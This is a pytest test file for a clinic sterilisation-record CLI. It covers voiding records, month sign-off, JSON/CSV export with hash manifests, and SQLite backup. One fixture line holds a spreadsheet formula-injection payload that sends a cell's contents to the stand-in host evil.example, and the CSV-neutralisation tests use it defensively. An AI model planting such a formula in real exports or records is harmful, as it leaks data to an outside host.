"""Corrections, sign-off, export and backup (SPEC §6.7) through the real CLI, on both backends."""

from __future__ import annotations

import csv
import hashlib
import json
import os
import sqlite3
import stat
import subprocess
import sys
import textwrap
import time
from pathlib import Path

import pytest
from clinic import GTIN, hri
from conftest import Cli

HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'
SPEC_TYPES = [
    "sessions", "refusals", "cycles", "bis", "air_removal_tests", "room_cleans",
    "device_cleans", "cartridges", "incidents", "voids", "audit",
]  # fmt: skip
# Backup is SQLite's: these override the `backend` fixture's two values with one.
SQLITE_ONLY = pytest.mark.parametrize("backend", ["sqlite"])
POSTGRESQL_ONLY = pytest.mark.parametrize(
    "backend", [pytest.param("postgresql", marks=pytest.mark.pg)]
)


def setup_room(cli: Cli) -> None:
    """A practitioner, a room and a pen, both cleaned at 08:00, and two cartridges."""
    cli.ok("staff", "add", "ann", "--name", "Ann Zoë", "--role", "practitioner")
    cli.ok("room", "add", "R1")
    cli.ok("device", "add", "SN-1", "--model", "Pen 4")
    cli.ok("disinfectant", "add", "Clinell", "--contact-min", "1")
    cli.ok("clean", "room", "R1", "--kind", "between-clients", "--disinfectant", "Clinell",
           "--note", HYPERLINK, "--at", "2026-11-24T08:00:00+00:00")
    cli.ok("clean", "device", "SN-1", "--disinfectant", "Clinell",
           "--at", "2026-11-24T08:00:00+00:00")
    cli.ok("cartridge", "receive", hri("LOTA", "0001"), hri("LOTA", "0002"), "--supplier", "Acme")


def gate_args(serial: str = "0001") -> list[str]:
    return ["--room", "R1", "--device", "SN-1", "--cartridge", hri("LOTA", serial)]


def a_day(cli: Cli) -> int:
    """`setup_room`, one session (C-1) and one refusal (C-2, the room is occupied)."""
    setup_room(cli)
    sid: int = cli.json("session", "start", *gate_args(), "--client", "C-1",
                        operator="ann")["session_id"]
    cli.json("session", "start", *gate_args("0002"), "--client", "C-2", operator="ann", expect=3)
    return sid


def verify_ok(cli: Cli) -> dict:
    out: dict = cli.json("audit", "verify")
    assert out["ok"] is True, out["problems"]
    return out


# --- void --------------------------------------------------------------------------------------


def test_a_manager_voids_a_record_which_is_kept_and_marked_voided(cli: Cli) -> None:
    setup_room(cli)
    out = cli.json("void", "room-clean", "1", "--reason", "entered for the wrong room")
    assert out == {"void_id": 1, "kind": "room-clean", "record_id": 1,
                   "reason": "entered for the wrong room", "at": "2026-11-24T09:00:00Z",
                   "voided": "between-clients clean 1 of room R1"}
    log = cli.json("audit", "log", "--limit", "1")["entries"][0]
    assert (log["action"], log["operator"], log["records"]) == ("void", "boss", ["voids#1"])
    text = cli.ok("void", "device-clean", "1", "--reason", "pen was not wiped").stdout
    assert text.startswith("Voided clean 1 of device SN-1 (void 2, 2026-11-24 09:00)"), text
    verify_ok(cli)


def test_a_practitioner_may_not_void_and_nothing_is_written(cli: Cli) -> None:
    setup_room(cli)
    before = cli.audit_count()
    r = cli.fails("void", "room-clean", "1", "--reason", "oops", operator="ann")
    assert r.stderr == (
        "Error: ann is a practitioner and may not void records; this needs a manager\n"
    )
    assert r.stdout == ""
    assert cli.audit_count() == before


def test_voiding_an_unknown_record_is_exit_1_and_writes_nothing(cli: Cli) -> None:
    setup_room(cli)
    before = cli.audit_count()
    for record_id, message in [
        ("99", "Error: unknown room-clean 99; check the ID\n"),
        ("abc", "Error: ID 'abc' is not a record number"),
        ("0", "Error: ID '0' is not a record number"),
        # issue 14: beyond any database's IDs is unknown, as on SQLite (was "not a record number")
        ("99999999999999999999", "Error: unknown room-clean 99999999999999999999"),
    ]:
        r = cli.fails("void", "room-clean", record_id, "--reason", "x")
        assert r.stderr.startswith(message)
    assert cli.audit_count() == before


def test_voiding_twice_is_exit_1_and_an_unvoidable_kind_is_a_usage_error(cli: Cli) -> None:
    setup_room(cli)
    cli.ok("void", "room-clean", "1", "--reason", "wrong room")
    before = cli.audit_count()
    r = cli.fails("void", "room-clean", "1", "--reason", "again")
    assert r.stderr == "Error: room-clean 1 is already voided\n"
    cli.fails("void", "session", "1", "--reason", "x", code=2)
    cli.fails("void", "room-clean", "1", "--reason", "  ")
    assert cli.audit_count() == before


def test_a_voided_room_clean_stops_counting_at_the_gate(cli: Cli) -> None:
    setup_room(cli)
    go = cli.json("check", *gate_args(), operator="ann")
    assert go["decision"] == "go", go
    cli.ok("void", "room-clean", "1", "--reason", "recorded for the wrong room")
    blocked = cli.json("check", *gate_args(), operator="ann", expect=3)
    assert [r["code"] for r in blocked["reasons"]] == ["room-not-cleaned"]
    verify_ok(cli)


# --- sign --------------------------------------------------------------------------------------


def test_signing_a_month_twice_gives_two_signatures_each_with_the_chain_head(
    cli: Cli, tmp_path: Path
) -> None:
    head = verify_ok(cli)["head"]
    first = cli.json("sign", "2026-11", "--meaning", "reviewed")
    assert first == {"signature_id": 1, "month": "2026-11", "meaning": "reviewed",
                     "name": "Boss Manager", "at": "2026-11-24T09:00:00Z", "head": head}
    second = cli.json("sign", "2026-11", "--meaning", "approved",
                      now="2026-11-30T17:00:00+00:00")
    seq = int(head.split(":")[0])
    assert second["signature_id"] == 2 and second["meaning"] == "approved"
    assert second["at"] == "2026-11-30T17:00:00Z"
    assert second["head"].startswith(f"{seq + 1}:")
    # The head printed at signing is an anchor the log must keep.
    assert cli.json("audit", "verify", "--anchor", second["head"])["anchor_ok"] is True
    log = cli.json("audit", "log", "--limit", "2")["entries"]
    assert [e["action"] for e in log] == ["sign", "sign"]
    exported = export_json(cli, "2026-11-01", "2026-11-30", tmp_path)
    assert [(s["month"], s["meaning"], s["staff"], s["head"]) for s in exported["signatures"]] == [
        ("2026-11", "reviewed", "boss", first["head"]),
        ("2026-11", "approved", "boss", second["head"]),
    ]


def test_a_month_under_way_may_be_signed_and_text_output_names_the_signer(cli: Cli) -> None:
    # A month not yet begun may not (issue 11: tests/test_time_identity.py).
    out = cli.ok("sign", "2026-11", "--meaning", "reviewed").stdout.splitlines()
    assert out[0] == (
        "Signed 2026-11 as reviewed by Boss Manager at 2026-11-24 09:00 (Europe/London) "
        "(signature 1)."
    )
    assert out[1].startswith("Audit chain head at signing: ")


def test_signing_a_month_that_is_not_yyyy_mm_is_exit_1(cli: Cli) -> None:
    before = cli.audit_count()
    for month in ["2026-13", "2026-1", "26-11", "2026-11-01", "november", ""]:
        r = cli.fails("sign", month, "--meaning", "approved")
        assert "is not a real month; use YYYY-MM" in r.stderr, month
    assert cli.audit_count() == before


def test_only_a_manager_signs_and_a_manager_with_a_pin_must_give_it(cli: Cli) -> None:
    cli.ok("staff", "add", "ann", "--name", "Ann", "--role", "practitioner")
    cli.ok("staff", "add", "meg", "--name", "Meg Ryan", "--role", "manager", "--pin",
           env={"STERILOG_NEW_PIN": "4321"})
    before = cli.audit_count()
    r = cli.fails("sign", "2026-11", "--meaning", "approved", operator="ann")
    assert "may not sign months off" in r.stderr
    assert cli.audit_count() == before
    r = cli.fails("sign", "2026-11", "--meaning", "approved", operator="meg")
    assert "has a PIN" in r.stderr
    assert cli.json("audit", "log", "--limit", "1")["entries"][0]["action"] == "auth.failed"
    out = cli.json("sign", "2026-11", "--meaning", "approved", operator="meg",
                   env={"STERILOG_PIN": "4321"})
    assert out["name"] == "Meg Ryan"


# --- export ------------------------------------------------------------------------------------


def export_json(cli: Cli, start: str, end: str, tmp: Path) -> dict:
    path = tmp / f"export-{start}-{end}.json"
    cli.ok("export", "--from", start, "--to", end, "--format", "json", "-o", str(path),
           operator=False)
    data: dict = json.loads(path.read_text(encoding="utf-8"))
    return data


def test_json_export_has_a_list_per_record_type_and_the_period_meta(
    cli: Cli, tmp_path: Path
) -> None:
    sid = a_day(cli)
    cli.ok("incident", "record", "--session", str(sid), "--kind", "pain", "--note", "stung",
           operator="ann")
    cli.ok("void", "room-clean", "1", "--reason", "wrong room")
    path = tmp_path / "nov.json"
    out = cli.json("export", "--from", "2026-11-01", "--to", "2026-11-30", "--format", "json",
                   "-o", str(path), operator=False)
    assert out["path"] == str(path)
    assert out["sha256"] == hashlib.sha256(path.read_bytes()).hexdigest()
    data = json.loads(path.read_text(encoding="utf-8"))
    assert set(SPEC_TYPES) <= set(data)
    meta = data["meta"]
    assert (meta["clinic"], meta["tz"], meta["from"], meta["to"]) == (
        "Test Clinic", "Europe/London", "2026-11-01", "2026-11-30")
    assert meta["generated_at"] == "2026-11-24T09:00:00Z"
    assert meta["head"] == verify_ok(cli)["head"] == out["head"]
    (session,) = data["sessions"]
    assert (session["id"], session["client"], session["room"], session["device"]) == (
        sid, "C-1", "R1", "SN-1")
    assert (session["practitioner"], session["practitioner_name"]) == ("ann", "Ann Zoë")
    assert (session["gtin"], session["lot"], session["serial"], session["expiry"]) == (
        GTIN, "LOTA", "0001", "2027-12-31")
    (refusal,) = data["refusals"]
    assert refusal["client"] == "C-2" and "room-occupied" in refusal["reason_codes"]
    (clean,) = data["room_cleans"]
    assert clean["note"] == HYPERLINK  # JSON keeps the text exactly as recorded
    assert (clean["voided"], clean["void_id"]) == (True, 1)
    assert data["voids"][0]["kind"] == "room-clean"
    assert [c["serial"] for c in data["cartridges"]] == ["0001", "0002"]
    assert data["cartridges"][0]["session_id"] == sid
    assert data["incidents"][0]["client"] == "C-1"
    assert [e["seq"] for e in data["audit"]] == list(range(1, int(meta["head"].split(":")[0]) + 1))
    assert data["counts"] == {name: len(data[name]) for name in data["counts"]}
    assert "pin_hash" not in json.dumps(data["staff"])
    for name, columns in meta["types"].items():
        for row in data[name]:
            assert list(row) == columns, name


def test_export_dates_are_clinic_days_with_both_ends_included(cli: Cli, tmp_path: Path) -> None:
    a_day(cli)
    cli.ok("clean", "room", "R1", "--kind", "end-of-day", "--disinfectant", "Clinell",
           "--at", "2026-11-23T23:59:59", now="2026-11-24T09:00:00+00:00")
    day = export_json(cli, "2026-11-24", "2026-11-24", tmp_path)
    assert [s["client"] for s in day["sessions"]] == ["C-1"]
    assert [r["client"] for r in day["refusals"]] == ["C-2"]
    assert [c["kind"] for c in day["room_cleans"]] == ["between-clients"]
    before = export_json(cli, "2026-11-01", "2026-11-23", tmp_path)
    assert before["sessions"] == [] and before["refusals"] == []
    assert [c["at_local"] for c in before["room_cleans"]] == ["2026-11-23 23:59:59"]
    after = export_json(cli, "2026-11-25", "2026-12-31", tmp_path)
    assert after["sessions"] == [] and after["audit"] == []
    assert [r["code"] for r in after["rooms"]] == ["R1"]  # registers are always whole


def test_csv_export_writes_a_file_per_type_and_a_manifest_whose_hashes_match(
    cli: Cli, tmp_path: Path
) -> None:
    a_day(cli)
    folder = tmp_path / "inspection"
    out = cli.json("export", "--from", "2026-11-01", "--to", "2026-11-30", "--format", "csv",
                   "-o", str(folder), operator=False)
    manifest = json.loads((folder / "manifest.json").read_text(encoding="utf-8"))
    names = {f["type"] for f in manifest["files"]}
    assert set(SPEC_TYPES) <= names
    assert sorted(p.name for p in folder.iterdir()) == sorted(
        [f["file"] for f in manifest["files"]] + ["manifest.json"]
    )
    for f in manifest["files"]:
        body = (folder / f["file"]).read_bytes()
        assert hashlib.sha256(body).hexdigest() == f["sha256"], f["file"]
        rows = list(csv.reader(body.decode("utf-8").splitlines()))
        assert len(rows) - 1 == f["rows"] == out["counts"][f["type"]]
    assert manifest["meta"]["head"] == out["head"]
    with (folder / "sessions.csv").open(encoding="utf-8", newline="") as f:
        sessions = list(csv.DictReader(f))
    assert [(s["client"], s["room"], s["practitioner"]) for s in sessions] == [("C-1", "R1", "ann")]
    if os.name == "posix":
        assert stat.S_IMODE(folder.stat().st_mode) == 0o700
        assert stat.S_IMODE((folder / "sessions.csv").stat().st_mode) == 0o600


def test_csv_cells_a_spreadsheet_would_run_are_neutralised(cli: Cli, tmp_path: Path) -> None:
    setup_room(cli)
    for note in ("+1+1", "-2+3", "@SUM(A1)", "plain = text"):
        cli.ok("clean", "room", "R1", "--kind", "spill", "--disinfectant", "Clinell",
               "--note", note)
    folder = tmp_path / "csv"
    cli.ok("export", "--from", "2026-11-24", "--to", "2026-11-24", "--format", "csv",
           "-o", str(folder), operator=False)
    with (folder / "room_cleans.csv").open(encoding="utf-8", newline="") as f:
        notes = [row["note"] for row in csv.DictReader(f)]
    assert notes == ["'" + HYPERLINK, "'+1+1", "'-2+3", "'@SUM(A1)", "plain = text"]


@pytest.mark.parametrize(
    "value, cell",
    [
        ("=1+1", "'=1+1"), ("+1", "'+1"), ("-1", "'-1"), ("@A1", "'@A1"), ("\tx", "'\tx"),
        ("\rx", "'\rx"), ("a=b", "a=b"), ("", ""), (None, ""), (-1.5, "-1.5"), (3, "3"),
        (True, "true"), (["=P1", "P2"], '["=P1","P2"]'),
    ],
)  # fmt: skip
def test_csv_cells_are_neutralised_by_the_owasp_rule(value: object, cell: str) -> None:
    from sterilog.services.export import csv_cell

    assert csv_cell(value) == cell


def test_csv_export_refuses_a_non_empty_folder_and_json_a_folder(
    cli: Cli, tmp_path: Path
) -> None:
    (tmp_path / "full").mkdir()
    (tmp_path / "full" / "keep.txt").write_text("mine")
    r = cli.fails("export", "--from", "2026-11-01", "--to", "2026-11-30", "--format", "csv",
                  "-o", str(tmp_path / "full"), operator=False)
    assert "is not empty" in r.stderr
    assert [p.name for p in (tmp_path / "full").iterdir()] == ["keep.txt"]
    (tmp_path / "empty").mkdir()
    cli.ok("export", "--from", "2026-11-01", "--to", "2026-11-30", "--format", "csv",
           "-o", str(tmp_path / "empty"), operator=False)
    assert (tmp_path / "empty" / "manifest.json").exists()
    r = cli.fails("export", "--from", "2026-11-01", "--to", "2026-11-30", "--format", "json",
                  "-o", str(tmp_path), operator=False)
    assert "is a directory" in r.stderr


@pytest.mark.parametrize(
    "args, message",
    [
        (("--from", "2026-02-30", "--to", "2026-03-01"), "--from '2026-02-30' is not a real date"),
        (("--from", "2026-11-30", "--to", "2026-11-01"), "--to 2026-11-01 is before --from"),
    ],
)
def test_export_refuses_impossible_periods(
    cli: Cli, tmp_path: Path, args: tuple[str, ...], message: str
) -> None:
    r = cli.fails("export", *args, "--format", "json", "-o", str(tmp_path / "x.json"),
                  operator=False)
    assert message in r.stderr
    assert list(tmp_path.iterdir()) == [p for p in tmp_path.iterdir() if p.suffix == ".db"]


@pytest.mark.parametrize("fmt", ["json", "csv"])
def test_export_into_a_directory_that_does_not_exist_is_exit_1_and_creates_nothing(
    cli: Cli, tmp_path: Path, fmt: str
) -> None:
    target = tmp_path / "missing" / ("out.json" if fmt == "json" else "out")
    r = cli.fails("export", "--from", "2026-11-01", "--to", "2026-11-30", "--format", fmt,
                  "-o", str(target), operator=False)
    assert r.stderr == (
        f"Error: directory '{tmp_path / 'missing'}' does not exist; create it first or "
        "choose another -o\n"
    )
    assert not (tmp_path / "missing").exists()


# --- backup ------------------------------------------------------------------------------------


@SQLITE_ONLY
def test_backup_into_a_directory_that_does_not_exist_is_exit_1_and_creates_nothing(
    cli: Cli, tmp_path: Path
) -> None:
    r = cli.fails("backup", str(tmp_path / "missing" / "copy.db"), operator=False)
    assert r.stderr.startswith(f"Error: directory '{tmp_path / 'missing'}' does not exist")
    assert not (tmp_path / "missing").exists()


@POSTGRESQL_ONLY
def test_backup_on_postgresql_is_exit_1_pointing_at_pg_dump(cli: Cli, tmp_path: Path) -> None:
    r = cli.fails("backup", str(tmp_path / "copy.db"), operator=False)
    assert "pg_dump" in r.stderr and "docs/operations.md" in r.stderr
    assert not (tmp_path / "copy.db").exists()


@SQLITE_ONLY
def test_a_backup_is_a_verified_owner_only_file_and_never_overwrites(
    cli: Cli, tmp_path: Path
) -> None:
    a_day(cli)
    target = tmp_path / "copy.db"
    out = cli.json("backup", str(target), operator=False)
    head = verify_ok(cli)["head"]
    assert out == {"path": str(target), "bytes": target.stat().st_size, "integrity": "ok",
                   "audit_ok": True, "entries": int(head.split(":")[0]), "head": head,
                   "problems": []}
    assert sorted(p.name for p in tmp_path.iterdir() if p.name.startswith("copy")) == ["copy.db"]
    if os.name == "posix":
        assert stat.S_IMODE(target.stat().st_mode) == 0o600
    before = target.read_bytes()
    r = cli.fails("backup", str(target), operator=False)
    assert "already exists" in r.stderr
    assert target.read_bytes() == before
    copy = Cli(url=f"sqlite:///{target}", backend="sqlite")
    assert [s["client"] for s in copy.json("session", "list")["sessions"]] == ["C-1"]


WRITER = textwrap.dedent(
    """
    import os
    import sys
    from sterilog.cli import main

    url, count, stop = sys.argv[1], int(sys.argv[2]), sys.argv[3]
    for i in range(count):
        if os.path.exists(stop):
            break
        try:
            main(["--db", url, "--operator", "boss", "room", "add", f"W{i}"],
                 standalone_mode=False)
        except SystemExit as stop:
            if stop.code:
                sys.exit(f"room add W{i} failed with exit {stop.code}")
        print(i, flush=True)
    """
)


@SQLITE_ONLY
def test_a_backup_taken_while_another_process_writes_is_consistent_and_verifies(
    cli: Cli, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    import sterilog.services.backup as backup_service

    a_day(cli)
    # Copy a few pages per step, so the writer commits between the steps of each copy.
    monkeypatch.setattr(backup_service, "PAGES_PER_STEP", 2)
    env = {**os.environ, "STERILOG_NOW": cli.now, "STERILOG_PIN": "", "STERILOG_DB": ""}
    writer = subprocess.Popen(
        [sys.executable, "-c", WRITER, cli.url, "2000", str(tmp_path / "stop")],
        stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True, env=env,
    )  # fmt: skip
    try:
        assert writer.stdout is not None
        writer.stdout.readline()  # the writer is under way
        copies = []
        for n in range(3):
            target = tmp_path / f"copy{n}.db"
            out = cli.json("backup", str(target), operator=False)
            assert (out["integrity"], out["audit_ok"], out["problems"]) == ("ok", True, [])
            copies.append((target, out))
            time.sleep(0.05)
        still_running = writer.poll() is None
    finally:
        (tmp_path / "stop").touch()
        _, stderr = writer.communicate(timeout=120)
    assert writer.returncode == 0, stderr
    assert still_running, "the writer finished before the backups: nothing was concurrent"
    entries = [out["entries"] for _, out in copies]
    assert entries == sorted(entries) and entries[0] < entries[-1]  # writes went on meanwhile
    for target, out in copies:
        conn = sqlite3.connect(target)
        try:
            assert conn.execute("PRAGMA integrity_check").fetchall() == [("ok",)]
            assert conn.execute("PRAGMA journal_mode").fetchone() == ("delete",)
        finally:
            conn.close()
        copy = Cli(url=f"sqlite:///{target}", backend="sqlite")
        verified = verify_ok(copy)
        assert (verified["entries"], verified["head"]) == (out["entries"], out["head"])
    final = verify_ok(cli)
    assert final["entries"] >= entries[-1]
